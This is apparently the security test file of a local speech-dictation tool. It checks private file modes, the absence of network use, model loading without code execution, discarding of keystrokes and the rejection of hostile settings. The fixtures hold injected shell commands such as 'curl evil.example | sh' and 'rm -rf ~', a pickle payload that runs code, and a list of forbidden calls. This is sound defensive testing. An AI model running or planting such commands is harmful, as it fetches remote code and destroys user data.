"""No one else in (issue 6, point 7): the control socket and the data are the user's alone, a
dictation makes no network connection, models never run code, no keystroke but the hotkey is
kept, and a hostile settings file cannot run commands or point dictate elsewhere.

The control server's own tests (tests/test_ipc.py) refuse another uid for real, by SO_PEERCRED;
the history's (tests/test_history.py) check its modes under the default umask. Here: the same
under a careless umask, and what the other tests do not cover.
"""

from __future__ import annotations

import ast
import contextlib
import dataclasses
import fnmatch
import gc
import json
import logging
import os
import pickle
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import weakref
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from dictate import config, paths
from dictate.control import ipc
from dictate.dictation.history import History
from tests.conftest import REPO

POSIX = pytest.mark.skipif(os.name != "posix", reason="POSIX modes, sockets and /proc")


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@contextlib.contextmanager
def careless_umask() -> Iterator[None]:
    """umask 000, as a misconfigured session may have: files would be created world-writable."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


# --- the control socket ---------------------------------------------------------------------


@POSIX
def test_control_socket_is_private_whatever_the_umask(monkeypatch: pytest.MonkeyPatch) -> None:
    from dictate.control.server import ControlServer

    base = Path(tempfile.mkdtemp(prefix="dct-"))
    monkeypatch.delenv("DICTATE_SOCKET", raising=False)
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setattr(tempfile, "tempdir", str(base))  # the default: <tmp>/dictate-<uid>
    try:
        with careless_umask(), ControlServer(lambda cmd, args: {"state": "ready"}) as server:
            assert server.path == base / f"dictate-{os.getuid()}" / "control.sock"
            assert mode(server.path.parent) == 0o700
            assert stat.S_ISSOCK(os.lstat(server.path).st_mode) and mode(server.path) == 0o600
            assert mode(server.path.with_name("control.sock.lock")) == 0o600
            assert ipc.send("status", path=server.path)["state"] == "ready"
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="SO_PEERCRED is Linux's")
def test_the_kernel_names_the_peer_so_other_users_can_be_refused() -> None:
    """Where the OS offers peer credentials, dictate reads them (None would leave only the file
    modes); tests/test_ipc.py shows a process of another uid refused by this check."""
    a, b = socket.socketpair(socket.AF_UNIX)
    with a, b:
        assert ipc.peer_uid(a) == os.getuid()


# --- the data ---------------------------------------------------------------------------------


@POSIX
def test_history_audio_and_settings_are_user_only_whatever_the_umask(tmp_path: Path) -> None:
    data, settings = tmp_path / "new" / "data", tmp_path / "new" / "config" / "settings.json"
    with careless_umask():
        with History(data) as history:
            rec = history.start()
            rec.write(np.zeros(1600, np.float32))
            history.finish_recording(rec)
            history.set_result(rec.id, "private words", {})
            created = [data, history.audio_dir, history.db_path, rec.path]
            created += [Path(f"{history.db_path}{s}") for s in ("-wal", "-shm")]
        config.save(config.Settings(prompt="names of my clients"), settings)
    assert {str(p): oct(mode(p)) for p in created if p.is_dir()} == {
        str(data): "0o700",
        str(data / "audio"): "0o700",
    }
    assert {str(p): oct(mode(p)) for p in created if not p.is_dir() and p.exists()} == {
        str(p): "0o600" for p in created if not p.is_dir() and p.exists()
    }
    assert mode(settings.parent) == 0o700 and mode(settings) == 0o600


@POSIX
def test_a_damaged_history_kept_aside_stays_user_only(tmp_path: Path) -> None:
    with History(tmp_path) as history:
        history.start().close()
    (tmp_path / "history.sqlite3").write_bytes(os.urandom(4096))
    with History(tmp_path) as history:
        assert history.warning
    [aside] = tmp_path.glob("history.sqlite3.damaged-*")
    assert mode(aside) == 0o600


# --- the network ------------------------------------------------------------------------------

# Runs in a child process: an audit hook cannot be removed, and it must be in place before any
# library is imported. Every socket connect, sendto and name lookup is checked; any that does not
# stay on this machine is recorded and refused.
_GUARDED = r"""
import ipaddress, json, socket, sys

attempts = []

def _local(host):
    if host in (None, "", "localhost") or isinstance(host, bytes):
        return True
    try:
        return ipaddress.ip_address(str(host).split("%")[0]).is_loopback
    except ValueError:
        return False

def guard(event, args):
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
        sock, address = args[0], args[-1]
        if sock.family in (socket.AF_INET, socket.AF_INET6) and not _local(address[0]):
            attempts.append(f"{event} {address!r}")
            raise ConnectionRefusedError(f"test guard: no network during a dictation ({address})")
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyname_ex"):
        if not _local(args[0]):
            attempts.append(f"{event} {args[0]!r}")
            raise OSError(f"test guard: no name lookups during a dictation ({args[0]})")

sys.addaudithook(guard)

import numpy as np
from pathlib import Path
from dictate.audio.decode import load_audio
from dictate.dictation.history import History
from dictate.engine.options import TranscribeOptions
from dictate.engine.transcriber import Engine
from tests.reliability.pipeline import Pipeline

model, clip, data = sys.argv[1:4]
engine = Engine(model, device="auto")
engine.load()
engine.warmup()
options = TranscribeOptions(prompt="Kubernetes, ComfyUI")
with History(Path(data)) as history:
    pipeline = Pipeline(history, lambda audio: engine.transcribe(audio, options))
    statuses = [pipeline.wait_done(pipeline.dictate(a))
                for a in (load_audio(clip), np.zeros(16000, np.float32))]
    pipeline.session.shutdown()
print(json.dumps({"attempts": attempts, "statuses": statuses, "typed": pipeline.window.texts}))
"""


@pytest.mark.slow
def test_a_dictation_makes_no_network_connection(
    tmp_path: Path, tiny_en_dir: Path, fixtures_dir: Path
) -> None:
    # The hub's offline switches are off: nothing may depend on them to stay off the network.
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "TRANSFORMERS_"))}
    env |= {"PYTHONPATH": str(REPO), "DICTATE_CACHE_DIR": str(tmp_path / "cache")}
    clip = fixtures_dir / "LDC93S1.wav"
    child = subprocess.run(
        [sys.executable, "-c", _GUARDED, *map(str, (tiny_en_dir, clip, tmp_path / "data"))],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO,
        timeout=600,
    )
    assert child.returncode == 0, child.stderr[-3000:]
    result = json.loads(child.stdout.splitlines()[-1])
    assert result["attempts"] == []
    assert result["statuses"] == ["inserted", "no_speech"]  # the guard saw a real dictation
    assert "greasy" in result["typed"][0]


# --- models -----------------------------------------------------------------------------------


class _Trap:
    """Unpickling this writes a marker file: pickled weights that run code when loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "pickle ran"))


def _booby_trapped(src: Path, dst: Path, marker: Path, *, safetensors: bool) -> Path:
    """A Whisper folder that also carries every way a model can try to run code: pickled
    weights, and remote code named by config.json's auto_map."""
    shutil.copytree(src, dst)
    if not safetensors:
        (dst / "model.safetensors").unlink()
    with open(dst / "pytorch_model.bin", "wb") as f:
        pickle.dump({"model.encoder.conv1.weight": _Trap(marker)}, f)
    (dst / "modeling_trap.py").write_text(
        f"from pathlib import Path\nPath({str(marker)!r}).write_text('remote code ran')\n"
    )
    cfg = json.loads((dst / "config.json").read_text())
    cfg["auto_map"] = {
        "AutoConfig": "modeling_trap.TrapConfig",
        "AutoModelForSpeechSeq2Seq": "modeling_trap.TrapModel",
    }
    (dst / "config.json").write_text(json.dumps(cfg))
    return dst


@pytest.mark.slow
def test_models_load_from_safetensors_and_never_run_their_code(
    tmp_path: Path, tiny_en_dir: Path, fixtures_dir: Path
) -> None:
    from dictate.audio.decode import load_audio
    from dictate.engine.transcriber import Engine
    from dictate.errors import ModelError

    marker = tmp_path / "code-ran"
    folder = _booby_trapped(tiny_en_dir, tmp_path / "trapped", marker, safetensors=True)
    engine = Engine(str(folder), device="cpu")
    engine.load()
    text = engine.transcribe(load_audio(fixtures_dir / "LDC93S1.wav")).text
    assert "greasy" in text  # the safetensors weights, not the pickle
    assert not marker.exists(), marker.read_text()

    only_pickle = _booby_trapped(tiny_en_dir, tmp_path / "pickled", marker, safetensors=False)
    with pytest.raises(ModelError, match="dictate loads safetensors only"):
        Engine(str(only_pickle), device="cpu").load()
    assert not marker.exists(), marker.read_text()


def test_downloads_fetch_no_code_and_no_pickles() -> None:
    from dictate.engine.loading import ALLOW_PATTERNS

    def fetched(name: str) -> bool:
        return any(fnmatch.fnmatch(name, pattern) for pattern in ALLOW_PATTERNS)

    assert fetched("model.safetensors") and fetched("config.json")
    for name in ("modeling_whisper.py", "pytorch_model.bin", "model.ckpt", "flax_model.msgpack"):
        assert not fetched(name), name
    assert not fetched("tf_model.h5") and not fetched("model.pkl")


# --- keystrokes -------------------------------------------------------------------------------


class Key:
    """Stands in for pynput's key objects; weak-referenceable, so we can see none is kept."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Key) and other.name == self.name

    def __hash__(self) -> int:
        return hash(self.name)

    def __repr__(self) -> str:
        return f"Key({self.name})"


def test_no_keystroke_but_the_hotkey_is_kept(caplog: pytest.LogCaptureFixture) -> None:
    """Feed the listener's pynput callbacks a typed password between hotkey presses; afterwards
    not one of those key objects may still be alive, and none may appear in the log."""
    from dictate.control.hotkeys import HotkeyListener

    listener = HotkeyListener(
        "<ctrl>+<alt>+d",
        "hold",
        on_start=lambda: None,
        on_stop=lambda: None,
        on_cancel=lambda: None,
        is_recording=lambda: False,
    )
    # What start() sets from pynput, with our own key objects (no X display needed).
    combo = [Key("ctrl"), Key("alt"), Key("d")]
    listener._keys = frozenset(combo)
    listener._cancel = Key("esc")
    broken = "hunter2-secret"

    def canonical(key: Key) -> Key:
        if key.name == broken:
            raise RuntimeError(f"cannot canonicalise {key!r}")  # the listener must not log it
        return key

    listener._canon = canonical
    typed = [Key(c) for c in "correct horse battery staple 1234"] + [Key(broken)]
    watchers = [weakref.ref(k) for k in typed]
    with caplog.at_level(logging.DEBUG):
        for k in combo:
            listener._on_press(Key(k.name))
        for key in typed:  # typed while the combo is held: the worst case
            listener._on_press(key)
            listener._on_release(key)
        for k in combo:
            listener._on_release(Key(k.name))
    events = []
    while not listener._events.empty():
        events.append(listener._events.get_nowait())

    del typed, key
    gc.collect()
    assert [w for w in watchers if w() is not None] == []  # nothing kept a typed key
    assert [kind for kind, _ in events] == ["press", "release"]  # only the combo got through
    assert all(isinstance(at, float) for _, at in events)
    assert "hotkey press handling failed" in caplog.text  # the failure is logged...
    assert broken not in caplog.text and "horse" not in caplog.text  # ...without the key


# --- settings ---------------------------------------------------------------------------------


def test_a_hostile_settings_file_cannot_run_commands_or_move_dictate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("DATA", "CONFIG", "CACHE"):
        monkeypatch.setenv(f"DICTATE_{name}_DIR", str(tmp_path / name.lower()))
    where = (paths.data_dir(), paths.config_dir(), paths.cache_dir())
    hostile = {
        "hotkey": "<ctrl>+<alt>+d; curl evil.example | sh",
        "cancel_key": "$(reboot)",
        "insert_method": "xdotool; rm -rf ~",
        "device": "cuda; id",
        "model": "https://evil.example/model.bin",
        "language": "en; rm -rf ~",
        "input_device": "mic\x1b]0;pwned\x07",
        "replacements": {"the": "the\ncurl evil.example | sh\n", "ok": "ok"},
        "max_record_s": 1e308,
        "keep_audio": "yes",
        # Settings that do not exist: a data folder, a socket, an ffmpeg, Python internals.
        "data_dir": "/", "history": "/etc/passwd", "socket": "/tmp/x.sock", "ffmpeg": "/bin/sh",
        "__class__": "os.system", "validated": "rm -rf ~",
    }  # fmt: skip
    path = tmp_path / "settings.json"
    path.write_text(json.dumps(hostile))

    settings, warnings = config.load(path)

    default = config.Settings()
    for name in ("hotkey", "cancel_key", "insert_method", "device", "model", "language"):
        assert getattr(settings, name) == getattr(default, name), name
    assert settings.input_device is None and settings.max_record_s == default.max_record_s
    assert settings.replacements == {} and settings.keep_audio is True
    assert len(warnings) == len(hostile) and all("\n" not in w for w in warnings)
    assert (paths.data_dir(), paths.config_dir(), paths.cache_dir()) == where
    assert set(dataclasses.asdict(settings)) == {f.name for f in dataclasses.fields(settings)}


@POSIX
@pytest.mark.parametrize("kind", ["fifo", "device", "huge", "deep"])
def test_a_settings_file_that_is_not_one_is_refused_without_hanging(
    tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "settings.json"
    if kind == "fifo":
        os.mkfifo(path)  # reading it would wait forever for a writer
    elif kind == "device":
        path.symlink_to("/dev/zero")  # reading it would never end
    elif kind == "huge":
        path.write_text('{"prompt": "' + "x" * (2 << 20) + '"}')
    else:
        path.write_text('{"replacements": ' + "[" * 100_000 + "]" * 100_000 + "}")
    settings, warnings = config.load(path)
    assert settings == config.Settings()
    assert len(warnings) == 1 and "unreadable" in warnings[0] and str(path) in warnings[0]


# Calls that would let a value from a file, a socket or a model become code or a shell command.
_FORBIDDEN = {
    ("os", "system"),
    ("os", "popen"),
    ("pickle", "load"),
    ("pickle", "loads"),
    ("torch", "load"),
    ("yaml", "load"),
    ("marshal", "loads"),
}


def test_no_shell_no_eval_no_pickle_and_no_remote_code_anywhere_in_dictate() -> None:
    found = []
    for file in sorted((REPO / "dictate").rglob("*.py")):
        tree = ast.parse(file.read_text(encoding="utf-8"), str(file))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            where = f"{file.relative_to(REPO)}:{node.lineno}"
            func = node.func
            if isinstance(func, ast.Name) and func.id in ("eval", "exec", "compile", "__import__"):
                found.append(f"{where} {func.id}()")
            if (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and (func.value.id, func.attr) in _FORBIDDEN
            ):
                found.append(f"{where} {func.value.id}.{func.attr}()")
            for kw in node.keywords:
                value = kw.value.value if isinstance(kw.value, ast.Constant) else "<expr>"
                if (kw.arg in ("shell", "trust_remote_code") and value is not False) or (
                    kw.arg == "use_safetensors" and value is not True
                ):
                    found.append(f"{where} {kw.arg}={ast.unparse(kw.value)}")
    assert found == [], "\n".join(found)
